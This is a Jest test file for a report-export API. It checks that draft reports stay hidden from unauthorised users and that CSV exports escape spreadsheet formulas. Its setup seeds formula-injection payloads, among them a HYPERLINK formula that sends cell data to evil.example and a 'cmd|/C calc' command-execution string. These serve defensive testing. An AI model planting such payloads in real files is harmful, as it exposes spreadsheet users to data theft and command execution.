import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import type { Report } from '../../../payload-types.js'
import { hctReport } from '../../../src/seed/content/reports/hct.js'
import { pdfPages } from '../../helpers/pdfText.js'
import { startTestServer, type TestServer } from '../../helpers/testServer.js'

/** Exports follow the assembled report's preview rules (drafts never leak) and escape spreadsheet formulas. */
let server: TestServer
const tokens: Record<string, string> = {}
const formats = ['json', 'csv', 'html', 'pdf'] as const
const draftSlug = 'export-draft-only-report'
const hostileSlug = 'export-hostile-csv-report'
const draftTitle = 'Levelling Up Impact Report (export draft)'
const draftOnlyTitle = 'An export still in draft'

const get = (path: string, token?: string) => fetch(`${server.url}${path}`, { headers: token ? { authorization: `JWT ${token}` } : {} })

beforeAll(async () => {
  server = await startTestServer()
  const { payload } = server
  tokens.reviewer = await server.login('reviewer@impact-cms.test', 'demo-reviewer-pass')
  tokens.editor = await server.login('editor@impact-cms.test', 'demo-editor-pass')
  tokens.contributorOwn = await server.login('contributor@impact-cms.test', 'demo-contributor-pass')
  const swft = (await payload.find({ collection: 'organisations', where: { slug: { equals: 'south-warwickshire-nhs-foundation-trust' } }, depth: 0 })).docs[0]
  await payload.create({
    collection: 'users',
    data: { email: 'other-contributor@export.test', password: 'other-contributor-pass', role: 'contributor', organisations: [swft.id] },
  })
  tokens.contributorOther = await server.login('other-contributor@export.test', 'other-contributor-pass')

  const hct: Report = (await payload.find({ collection: 'reports', where: { slug: { equals: hctReport.slug } }, depth: 0, joins: false })).docs[0]
  const goal = (await payload.find({ collection: 'goals', where: { framework: { equals: hct.framework }, number: { equals: 3 } }, depth: 0 })).docs[0]
  // system writes, as a seed would: a report only in draft, a draft rewrite of the published HCT report,
  // and a published report whose evidence was written by someone hostile to spreadsheet users
  await payload.create({ collection: 'reports', data: { title: draftOnlyTitle, slug: draftSlug, organisation: hct.organisation, framework: hct.framework, _status: 'draft' } })
  await payload.update({ collection: 'reports', id: hct.id, data: { title: draftTitle }, draft: true })
  const hostile = await payload.create({
    collection: 'reports',
    data: { title: '@SUM(1+1)', slug: hostileSlug, organisation: hct.organisation, framework: hct.framework, _status: 'published' },
  })
  await payload.create({
    collection: 'evidence',
    data: {
      report: hostile.id,
      goal: goal.id,
      title: '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
      assurance: 'self-reported',
      metrics: [
        { label: '+SUM(A1:A9)', value: -5, unit: '@cmd', valueText: '-2+3' },
        {
          label: 'Plain, with "quotes"\nand a line break',
          value: 12.5,
          unit: 'people',
          assurance: { level: 'externally-assured-limited', assurer: 'Grant Thornton', standard: 'isae-3000' },
        },
      ],
      source: { citation: '\tcmd|/C calc' },
      _status: 'published',
    },
  })
})
afterAll(async () => {
  await server?.close()
})

describe('drafts never leak', () => {
  test.each(formats)('anonymous: a report only in draft is a 404 in %s, with or without draft=true', async (format) => {
    for (const query of ['', '&draft=true']) {
      const response = await get(`/api/reports/${draftSlug}/export?format=${format}${query}`)
      expect(response.status).toBe(404)
      expect(((await response.json()) as { errors: { message: string }[] }).errors[0].message).toContain(draftSlug)
    }
  })

  test('anonymous with draft=true gets the published report, publicly cacheable', async () => {
    const response = await get(`/api/reports/${hctReport.slug}/export?format=json&draft=true`)
    expect(response.status).toBe(200)
    expect(response.headers.get('cache-control')).toBe('public, max-age=60, stale-while-revalidate=600')
    const doc = (await response.json()) as { report: { title: string }; draft: boolean }
    expect(doc.report.title).toBe(hctReport.title)
    expect(doc.draft).toBe(false)
  })

  test.each(['reviewer', 'editor', 'contributorOwn'])('%s previews the drafts with draft=true, privately', async (actor) => {
    const own = await get(`/api/reports/${draftSlug}/export?format=json&draft=true`, tokens[actor])
    expect(own.status).toBe(200)
    expect(own.headers.get('cache-control')).toBe('private, no-store')
    expect(((await own.json()) as { report: { title: string } }).report.title).toBe(draftOnlyTitle)
    const html = await (await get(`/api/reports/${hctReport.slug}/export?format=html&draft=true`, tokens[actor])).text()
    expect(html).toContain(`<h1>${draftTitle}</h1>`)
    expect(html).toContain('Draft preview: not published.')
    // without draft=true even staff get the published view
    const published = await (await get(`/api/reports/${hctReport.slug}/export?format=csv`, tokens[actor])).text()
    expect(published).toContain(`,${hctReport.title},`)
    expect(published).not.toContain(draftTitle)
  })

  test('the reviewer’s PDF preview is the draft, marked as one on every page', async () => {
    const response = await get(`/api/reports/${hctReport.slug}/export?format=pdf&draft=true`, tokens.reviewer)
    expect(response.status).toBe(200)
    expect(response.headers.get('cache-control')).toBe('private, no-store')
    const pages = await pdfPages(await response.arrayBuffer())
    expect(pages[0]).toContain('DRAFT PREVIEW — NOT PUBLISHED')
    expect(pages[0]).toContain(draftTitle)
    pages.forEach((page, i) => expect(page).toContain(`${draftTitle} (draft) · Page ${i + 1} of ${pages.length}`))
  })

  test('a contributor of another organisation gets no draft: 404 for the draft-only report, the published HCT report', async () => {
    expect((await get(`/api/reports/${draftSlug}/export?format=pdf&draft=true`, tokens.contributorOther)).status).toBe(404)
    const response = await get(`/api/reports/${hctReport.slug}/export?format=json&draft=true`, tokens.contributorOther)
    expect(((await response.json()) as { report: { title: string } }).report.title).toBe(hctReport.title)
  })
})

describe('csv against formulas', () => {
  test('cells a spreadsheet would run are prefixed with an apostrophe; numbers stay numbers; RFC 4180 quoting', async () => {
    const response = await get(`/api/reports/${hostileSlug}/export?format=csv`)
    expect(response.status).toBe(200)
    const text = (await response.text()).replace(/^\uFEFF/, '')
    const rows = text.split('\r\n')
    // the report title itself starts with @
    expect(rows[1].startsWith(`${hostileSlug},'@SUM(1+1),`)).toBe(true)
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click for details"")"`)
    expect(text).toContain(`,'+SUM(A1:A9),-5,'@cmd,'-2+3,`)
    expect(text).toContain(`,'\tcmd|/C calc,`)
    // a value with a comma, quotes and a line break stays one cell
    expect(text).toContain(`,"Plain, with ""quotes""\nand a line break",12.5,people,`)
    expect(text).not.toMatch(/(^|,)[=+@-][^,]*\(/m)
  })
})

describe('assurance per figure', () => {
  test('HTML and PDF mark each metric with its own assurance (level, assurer, standard)', async () => {
    const mark = 'Externally assured (limited) by Grant Thornton, ISAE 3000'
    const html = await (await get(`/api/reports/${hostileSlug}/export?format=html`)).text()
    expect(html).toContain(`<span class="assurance">${mark}</span>`)
    expect(html).toContain('<span class="assurance">Self-reported</span>')
    const pages = await pdfPages(await (await get(`/api/reports/${hostileSlug}/export?format=pdf`)).arrayBuffer())
    expect(pages.join(' ')).toContain(`12.5 people [${mark}]`)
  })
})
